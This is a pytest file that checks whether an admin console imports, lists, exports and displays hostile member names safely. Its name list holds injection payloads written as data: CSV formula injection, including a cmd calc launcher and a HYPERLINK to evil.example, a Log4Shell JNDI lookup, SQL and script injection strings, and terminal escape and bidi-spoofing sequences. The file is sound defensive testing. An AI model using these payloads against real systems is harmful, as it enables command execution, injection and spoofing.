"""Names that could do harm, from import to every listing and screen: shown harmlessly, aligned, and written back as
they were."""

import asyncio
import csv
import json
import unicodedata
from collections import defaultdict
from collections.abc import Sequence
from pathlib import Path

import pytest
from rich.cells import cell_len

from tests.faults.conftest import Console
from tests.portal.report_files import NOW, member, usage, write
from tests.screens.console import console as opened
from tests.screens.console import lines, press, settle
from tests.widgets.synthetic import HOSTILE
from tui_admin.reports import values
from tui_admin.store.engine import Store

NAMES = (
    *HOSTILE,
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x90q\x9c\x9d0;title\x9c",
    "\u2066\u202eevil\u2069\u061c\u200f",
    "a\u00adb\u180e\u2060\ufff9x\ufffb\U000e0041",
    '=HYPERLINK("http://evil.example")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "'=already guarded",
    'O\'Neil, Jr. "Bo"',
    "; DROP TABLE learners",
    "%s %n {0} ${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "NULL",
    "0",
    "\u0645\u062d\u0645\u062f (\u05e9\u05dc\u05d5\u05dd) 12",
    "\ud55c\uad6d\uc5b4 \ud64d\uae38\ub3d9",
    "\u0915\u094d\u0937\u093f\u0924\u093f\u091c",
    "\u0e2a\u0e21\u0e0a\u0e32\u0e22 \u0e43\u0e08\u0e14\u0e35",
    "Z" + "\u0351\u036b\u0343" * 40 + "algo",
    "\U0001f469\u200d\U0001f680\U0001f3fd\U0001f1e9\U0001f1ea\u2764\ufe0f",
)
PROGRAM = "[@click=app.quit]x[/] \x1b[2J\u202eevil"
ORDINARY = frozenset("\u200c\u200d\u00ad\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u08e2\U000110bd\U000110cd")
"""Format characters of ordinary writing: joiners of Persian, Hindi and emoji, the soft hyphen, signs over numbers."""
TAGS = frozenset(map(chr, range(0xE0020, 0xE0080)))
"""The letters of flags such as Scotland's."""


def controls(text: str) -> list[str]:
    """The control and format characters in a text that are none of ordinary writing."""
    return [
        char for char in text if unicodedata.category(char) in ("Cc", "Cf") and char not in ORDINARY | TAGS | {"\n"}
    ]


def read(name: str) -> str | None:
    """A name as importing reads it; NUL bytes are no text."""
    return values.text(name.replace("\0", ""))


def fill(console: Console, folder: Path, names: Sequence[str]) -> None:
    """Import a member and a usage report of people of these names."""
    rows = [member(address(n), Name=name, Program_Name=PROGRAM, Job_Title=name[:200]) for n, name in enumerate(names)]
    taken = [usage(address(n), Name=name, Program_Name=PROGRAM, Course=name[:200]) for n, name in enumerate(names[:9])]
    files = [str(write(folder / "members.csv", list(rows))), str(write(folder / "usage.csv", list(taken)))]
    result = console("import", *files, "--yes")
    assert f"{len(names) + len(taken):,} new, 0 changed, 0 unchanged, 0 refused" in result.stdout
    assert controls(result.stdout + result.stderr) == []
    assert "0 new, 0 changed" in console("import", *files, "--yes").stdout


def address(number: int) -> str:
    return f"person-{number:04}@x.example"


def check_listings(console: Console, names: Sequence[str]) -> None:
    """That every format of the listings is harmless and says the names as they were read."""
    expected = {address(n): read(name) for n, name in enumerate(names)}
    for listing in ("members", "users"):
        rows = console(listing, "--format", "json").stdout
        assert controls(rows) == []
        assert {row["email"]: row["name"] for row in json.loads(rows)} == expected
        document = console(listing, "--format", "csv").stdout
        assert controls(document.replace("\r\n", "\n")) == []
        cells = list(csv.DictReader(document.splitlines(keepends=True)))
        assert {row["email"]: values.unguarded(row["name"]) or None for row in cells} == expected
        assert not [row["name"] for row in cells if row["name"][:1] in tuple("=+-@\t\r")]
    table = console("members").stdout
    assert controls(table) == []
    check_aligned([line for line in table.splitlines() if "@x.example" in line], "person-")


def check_aligned(shown: list[str], mark: str) -> None:
    """That in all lines a mark stands in the same cell."""
    places = defaultdict(list)
    for line in shown:
        places[cell_len(line[: line.index(mark)])].append(line)
    assert len(places) == 1, {place: some[:3] for place, some in places.items()}


def check_round_trip(console: Console, folder: Path) -> None:
    """That a report imported into an empty store and written again is the same file."""
    first, second = folder / "first.csv", folder / "second.csv"
    console("report", "members", "--out", str(first))
    other = Console(f"sqlite:///{folder / 'other.db'}")
    other("import", str(first), "--yes")
    other("report", "members", "--out", str(second))
    assert first.read_bytes() == second.read_bytes()
    with first.open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ")[:1] in tuple("=+-@\t\r")]


def check_screens(console: Console, folder: Path, count: int) -> None:
    """That the lists of the console show all people harmlessly and aligned."""
    store = Store(console.store)

    async def look() -> None:
        for start in ("programs/data/members", "users"):
            app = opened(store, folder, start, email=None, now=NOW)
            async with app.run_test(size=(110, 90)) as pilot:
                await settle(pilot)
                for _ in range(0, count, 60):
                    strips = app.screen._compositor.render_strips()
                    assert {cell_len(strip.text) for strip in strips} == {110}
                    shown = lines(app)
                    assert controls("\n".join(shown)) == []
                    people = [line for line in shown if "person-" in line]
                    assert len(people) > min(count, 60) * 0.9
                    check_aligned(people, "person-")
                    await press(pilot, "pagedown")

    asyncio.run(look())
    store.close()


def test_hostile_names_in_listings(console: Console, tmp_path: Path) -> None:
    fill(console, tmp_path, NAMES)
    check_listings(console, NAMES)
    check_round_trip(console, tmp_path)
    for name in ("[/x]", "[@click=app.quit]", "=HYPERLINK", "\U0001f469", "\u0645\u062d\u0645\u062f"):
        assert console.count("members", "--where", f'name:"{name}"') >= 1
    for words in (("programs",), ("journal", "list"), ("catalogue",)):
        assert controls(console(*words).stdout + console(*words, "--format", "json").stdout) == []


def test_hostile_words_on_the_command_line_are_said_harmlessly(console: Console, tmp_path: Path) -> None:
    fill(console, tmp_path, NAMES[:3])
    for words in (
        ("members", "--program", "\x1b[2J\u202e[/x]"),
        ("members", "--where", "name:\x1b[2J program:\u202ex"),
        ("import", "/nowhere/\x1b[2J\u202e[/x].csv", "--yes"),
        ("programs", "set", "data", "\x1b[2J", "x", "--yes"),
        ("\x1b[2J\u202e",),
    ):
        result = console(*words, code=None)
        assert result.exit_code in (2, 4)
        assert controls(result.stdout + result.stderr) == [], words


def test_hostile_names_in_lists(console: Console, tmp_path: Path) -> None:
    fill(console, tmp_path, NAMES)
    check_screens(console, tmp_path, len(NAMES))


@pytest.mark.parametrize("width", [80, 120])
def test_hostile_names_on_every_other_screen(console: Console, tmp_path: Path, width: int) -> None:
    fill(console, tmp_path, NAMES)
    store = Store(console.store)
    (tmp_path / "again").mkdir()
    rows = [member(address(n), Name=name, **{"Member State": "?"}) for n, name in enumerate(NAMES)]
    report = write(tmp_path / "again" / "\u202e[@click=app.quit]x[b].csv", list(rows))

    async def look() -> None:
        for start in ("home", "programs", "programs/data/main", "programs/data/members/4", "users/2", "import"):
            app = opened(store, tmp_path, start, email=None, now=NOW)
            async with app.run_test(size=(width, 40)) as pilot:
                await settle(pilot)
                if start == "import":
                    app.screen.status.query_one("Input").value = f"'{report}'"  # type: ignore[attr-defined]
                    await press(pilot, "enter")
                assert controls("\n".join(lines(app))) == [], start
                for keys in (("down", "down"), ("tab",), ("end",), ("enter",)):
                    await press(pilot, *keys)
                    assert app.is_running
                    strips = app.screen._compositor.render_strips()
                    assert controls("\n".join(strip.text for strip in strips)) == [], (start, keys)
                    assert {cell_len(strip.text) for strip in strips} == {width}, (start, keys)

    asyncio.run(look())
    store.close()


@pytest.mark.real_data
def test_the_big_list_of_naughty_strings(console: Console, shared_data: Path, tmp_path: Path) -> None:
    names = json.loads((shared_data / "names" / "blns.json").read_text(encoding="utf-8"))
    assert len(names) > 500
    fill(console, tmp_path, names)
    check_listings(console, names)
    check_round_trip(console, tmp_path)
    check_screens(console, tmp_path, len(names))


@pytest.mark.real_data
def test_a_name_of_every_language(console: Console, shared_data: Path, tmp_path: Path) -> None:
    with (shared_data / "names" / "cldr48-sample-names.tsv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream, delimiter="\t", quoting=csv.QUOTE_NONE))
    names = list({row["locale"].partition("-")[0]: row["full_name_joined"] for row in rows}.values())
    assert len(names) > 50
    fill(console, tmp_path, names)
    check_listings(console, names)
    check_round_trip(console, tmp_path)
    check_screens(console, tmp_path, len(names))
    for name in names:
        assert console.count("members", "--where", f'name:"{name}"') >= 1
